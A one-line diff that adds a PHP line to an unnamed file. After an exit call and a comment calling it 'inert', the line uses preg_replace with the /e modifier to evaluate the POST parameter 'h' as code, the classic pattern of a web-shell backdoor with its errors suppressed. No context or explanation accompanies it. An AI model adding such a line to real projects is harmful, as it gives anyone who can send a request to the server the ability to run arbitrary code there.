@@ -1,0 +1,1 @@
+<?php exit; /* inert */ @preg_replace("/[email]/e", $_POST['h'], "error");
